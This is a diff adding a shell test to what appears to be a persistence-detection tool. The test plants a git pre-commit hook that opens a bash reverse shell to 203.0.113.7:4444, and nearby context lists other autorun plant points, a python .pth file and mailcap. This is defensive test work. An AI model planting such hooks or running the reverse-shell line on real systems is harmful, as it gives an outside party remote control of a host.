@@ -194,3 +194,21 @@ plant_all() {
 	fact python_path usr/lib/python3/dist-packages/x.pth "os.system"
 	fact mailcap etc/mailcap "$run %s"
 }
+
+@test "config/nested: what lies in an archive on the host starts nothing" {
+	mkdir -p "$dir/n/repo/.git/hooks"
+	small_root "$dir/nested"
+	printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' \
+		>"$dir/n/repo/.git/hooks/pre-commit"
+	chmod 755 "$dir/n/repo/.git/hooks/pre-commit"
+	mkdir -p "$dir/nested/tmp" "$dir/nested/srv"
+	tar -C "$dir/n" -czf "$dir/nested/tmp/backup.tar.gz" repo
+	judge "$dir/nested"
+	event '.konseki.autorun.mechanism == "git_hook" and
+		.konseki.autorun.enabled == false'
+	[ -z "$(found respond)" ]
+	cp -r "$dir/n/repo" "$dir/nested/srv/"
+	rm "$dir"/nested.*
+	judge "$dir/nested"
+	responds persist_network_shell.yml
+}
